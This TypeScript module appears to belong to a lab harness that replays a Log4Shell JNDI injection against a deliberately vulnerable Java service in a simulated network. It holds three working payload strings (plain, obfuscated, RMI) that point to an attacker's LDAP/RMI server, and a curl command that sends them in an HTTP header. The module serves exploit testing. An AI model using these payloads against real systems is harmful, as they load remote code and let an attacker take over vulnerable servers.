import { readFile, rm } from "node:fs/promises";
import { setTimeout as pause } from "node:timers/promises";
import type { Lab } from "../lab/lab.ts";
import { outsideNetwork } from "../lab/wiring.ts";
import { shopAddresses, shopNodePort } from "../shop/addresses.ts";
import { markerName } from "../shop/workloads.ts";

const { attacker, node4 } = shopAddresses;

/** The same hole, written in three ways. */
export const attacks = {
  plain: `\${jndi:ldap://${attacker}:1389/Payload}`,
  obfuscated: `\${\${lower:J}n\${::-d}\${env:NOPE:-i}:\${::-l}dap://${attacker}:1389/Payload}`,
  rmi: `\${jndi:rmi://${attacker}:1099/Payload}`,
} as const;

/** What the attacker types, and from where it is typed. */
export function attackCommand(text: string): readonly string[] {
  return ["curl", "-s", "--interface", attacker, "-H", `X-Api-Version: ${text}`, `http://${node4}:${shopNodePort}/`];
}

export interface Attack {
  /** javaapp's answer to the request that carried it. */
  readonly answer: string;
  /** What the payload left; undefined where it never ran. */
  readonly marker: string | undefined;
  /** The steps that worked, as the attacker's machine saw them. */
  readonly steps: readonly string[];
  /** What the logger in javaapp complained of. */
  readonly javaappSaid: readonly string[];
}

/** Plays the attack once. javaapp answers when its logger is done, so that what has not happened by then never will. */
export async function attack(lab: Lab, text: string): Promise<Attack> {
  const marker = `${lab.folderFromHere}/${markerName}`;
  await rm(marker, { force: true });
  const javaapps = lab.layout.pods.filter(({ workload }) => workload.name === "javaapp").map(({ name }) => name);
  const [newSteps, ...newSaid] = ["attacker", ...javaapps].map((program) => newLines(lab, program));
  const { stdout: answer } = await lab.exec(outsideNetwork, attackCommand(text));
  // What it printed has still to come through a pipe.
  await pause(100);
  return {
    answer,
    marker: await readFile(marker, "utf8").catch(() => undefined),
    steps: newSteps?.() ?? [],
    javaappSaid: newSaid.flatMap((lines) => lines()),
  };
}

/** Answers what a program has printed since. */
function newLines(lab: Lab, program: string): () => readonly string[] {
  const before = lab.output(program).length;
  return () => lab.output(program).slice(before).split("\n").filter(Boolean);
}
